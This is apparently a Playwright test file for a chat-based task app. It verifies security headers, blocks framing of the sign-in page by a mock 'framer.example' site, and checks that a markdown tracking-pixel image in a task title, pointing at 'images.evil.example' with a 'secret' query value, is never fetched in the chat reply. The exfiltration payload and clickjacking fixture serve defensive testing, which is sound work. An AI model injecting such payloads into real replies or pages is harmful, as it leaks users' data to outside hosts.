import { createTask, conversationLog, expect, say, signUpInPage, test } from "./helpers";

// Issue #15, in the browser: the pages' security headers hold with no console error (the fixture
// fails a test on any, CSP violations included), and no remote image in a reply is ever fetched.

test("every page sends its security headers and runs under its CSP without a console error", async ({ page }) => {
  const pages = ["/sign-in", "/sign-up"];
  for (const path of pages) {
    const res = await page.goto(path);
    const headers = res!.headers();
    expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(headers["x-content-type-options"]).toBe("nosniff");
    await expect(page.getByRole("button", { name: /Sign (in|up)/ })).toBeVisible();
  }
  await signUpInPage(page);
  for (const path of ["/chat", "/tasks", "/chatkit"]) {
    const res = await page.goto(path);
    const headers = res!.headers();
    expect(headers["content-security-policy"]).toMatch(/script-src 'self' 'nonce-[^']+'/);
    expect(headers["referrer-policy"]).toBeTruthy();
    expect(headers["permissions-policy"]).toBeTruthy();
    await expect(page.getByRole("heading").first()).toBeVisible();
  }
  // The chat works under the policy: its lazily loaded chunks and the stream.
  await page.goto("/chat");
  await say(page, "add a task to water the plants");
  await expect(
    conversationLog(page)
      .getByRole("listitem")
      .filter({ hasText: /Added task #\d+ · Water the plants/ }),
  ).toBeVisible();
});

test("a page cannot be framed by another site", async ({ page, consoleErrors }) => {
  consoleErrors.allow(/frame-ancestors/);
  const refused: string[] = [];
  page.on("console", (m) => {
    if (m.text().includes("frame-ancestors 'none'")) refused.push(m.text());
  });
  await page.goto("/sign-in");
  const signIn = page.url();
  await page.route("https://framer.example/", (route) =>
    route.fulfill({
      contentType: "text/html",
      body: `<!doctype html><title>x</title><iframe title="victim" src="${signIn}"></iframe>`,
    }),
  );
  await page.goto("https://framer.example/");
  await expect.poll(() => refused.length).toBeGreaterThan(0);
  await expect(page.frameLocator("iframe").getByRole("button", { name: "Sign in" })).toHaveCount(0);
});

test("a remote image in a reply is shown as its link text and never requested", async ({ page, request }) => {
  let requests = 0;
  await page.context().route("https://images.evil.example/**", (route) => {
    requests += 1;
    return route.fulfill({ contentType: "image/png", body: Buffer.alloc(0) });
  });
  const user = await signUpInPage(page);
  await createTask(request, user, {
    title: "Quarterly report ![tracking pixel](https://images.evil.example/p.png?d=secret)",
  });
  await page.goto("/chat");
  await say(page, "what's still pending?");
  const log = conversationLog(page);
  const reply = log.getByRole("listitem").filter({ hasText: /Found 1 pending task/ });
  await expect(reply).toBeVisible();
  await expect(reply.getByRole("link", { name: "tracking pixel" })).toBeVisible();
  await expect(log.locator("img")).toHaveCount(0);
  await page.reload();
  await expect(reply.getByRole("link", { name: "tracking pixel" })).toBeVisible();
  expect(requests).toBe(0);
});
